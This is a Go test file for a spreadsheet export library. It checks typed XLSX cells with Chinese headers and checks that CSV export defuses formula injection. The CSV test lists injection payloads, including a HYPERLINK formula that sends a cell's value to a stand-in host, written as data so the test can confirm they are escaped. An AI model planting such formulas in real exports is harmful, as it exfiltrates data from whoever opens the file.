package xlsx

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// An export opens as a typed spreadsheet: dates are dates, money numbers shown with two
// decimals, rates percentages, codes text; the header row stays in view and the columns
// are wide enough for their Chinese; and the export reads back as it was written.
func TestWriterWritesTypedCells(t *testing.T) {
	heads := []string{"统一社会信用代码", "复工日期", "月租金（元）", "到岗率", "在册员工"}
	b, err := Build("企业台账", heads, [][]any{
		{Text("914308210000012345"), Date("2020-03-09"), Money(1234550), Percent(89.8), 430},
		{Text("91430821MA4L0000X0"), Date(""), nil, Percent(100), 0},
	})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]struct {
		shown string
		typ   excelize.CellType
	}{
		"A2": {"914308210000012345", excelize.CellTypeInlineString},
		"B2": {"2020-03-09", excelize.CellTypeUnset},
		"C2": {"12,345.50", excelize.CellTypeUnset},
		"D2": {"89.8%", excelize.CellTypeUnset},
		"D3": {"100.0%", excelize.CellTypeUnset},
		"E2": {"430", excelize.CellTypeUnset},
	} {
		shown, _ := f.GetCellValue("企业台账", cell)
		typ, _ := f.GetCellType("企业台账", cell)
		if shown != want.shown || typ != want.typ {
			t.Errorf("%s: shown %q (type %v), want %q (type %v)", cell, shown, typ, want.shown, want.typ)
		}
	}
	if raw, _ := f.GetCellValue("企业台账", "B2", excelize.Options{RawCellValue: true}); raw != "43899" {
		t.Errorf("the date is stored as %q, not as the date's serial number", raw)
	}
	if fmtA, _ := f.GetCellStyle("企业台账", "A2"); fmtA == 0 {
		t.Error("the code column has no text format")
	}
	panes, err := f.GetPanes("企业台账")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("the header row is not frozen: %+v %v", panes, err)
	}
	if w, _ := f.GetColWidth("企业台账", "A"); w < 18 {
		t.Errorf("统一社会信用代码 in a column %v wide", w)
	}
	s, err := ReadXLSX(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	r := s.Rows[0]
	day, _ := Day(r.Get("复工日期"))
	code, _ := Code(r.Get("统一社会信用代码"))
	if day != "2020-03-09" || code != "914308210000012345" || Decimal(r.Get("月租金（元）"), 2) != "12345.50" && r.Get("月租金（元）") != "12345.5" {
		t.Errorf("read back: %v", r.Cells)
	}
}

// A CSV export cannot carry a formula into the spreadsheet that opens it, and a long
// code of digits stays text there; the reader takes both back as they were.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	bad := []string{`=HYPERLINK("http://x.example/?"&B2,"查看")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"}
	var rows [][]any
	for _, s := range bad {
		rows = append(rows, []any{s, Text("914308210000012345"), Money(-150)})
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, []string{"企业名称", "统一社会信用代码", "金额"}, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range recs[1:] {
		if !strings.HasPrefix(rec[0], "'") || rec[0][1:] != bad[i] {
			t.Errorf("cell %q written as %q", bad[i], rec[0])
		}
		if rec[1] != "914308210000012345\t" || rec[2] != "'-1.50" {
			t.Errorf("code %q, amount %q", rec[1], rec[2])
		}
	}
	s, err := ReadCSV(&b, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range s.Rows {
		if r.Cells["企业名称"] != bad[i] || r.Get("统一社会信用代码") != "914308210000012345" {
			t.Errorf("read back %q", r.Cells)
		}
	}
}
